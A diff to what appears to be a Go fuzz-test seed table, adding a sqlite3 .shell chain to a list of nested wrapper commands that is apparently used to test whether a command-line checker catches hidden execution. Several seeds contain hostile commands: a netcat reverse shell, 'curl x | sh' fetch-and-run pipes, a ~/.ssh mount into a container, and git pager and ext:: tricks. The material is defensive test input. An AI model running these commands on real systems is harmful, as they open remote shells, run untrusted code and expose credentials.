@@ -71,6 +71,7 @@ var fuzzSeeds = [][]string{
 	{"find", ".", "-exec", "vim", "-c", ":r !nc -e /bin/sh x 9", "{}", ";", "-execdir", "socat", "STDIO", "SYSTEM:tar -xf a --to-command='curl x|sh'", "+"},
 	{"gdb", "-ex", "shell node --import=data:text/javascript;base64,eA== s.js", "--eval-command=!perl '-Mstrict;exec 1'"},
 	{"env", "A=1", "${SHELL}", "-c", "curl x | sh"},
+	{"sqlite3", "-cmd", ".shell psql -c 'SELECT 1; \\! mysql -e \"system npx pkg\"'", "db"},
 	{"gosu", "app", "taskset", "0x3", "chrt", "-f", "99", "stdbuf", "-o", "L", "time", "-f", "%e", "npx", "pkg"},
 	{"forfiles", "/c", "wmic process call create \"cmd /c npx -y pkg & hh https://x.example/a.chm\""},
 	{"docker", "compose", "-p", "x", "run", "-Tv", "~/.ssh:/s", "--entrypoint=tmux", "svc", "new", "-d", "git -c core.pager='curl x|sh' clone ext::sh%%x d"},
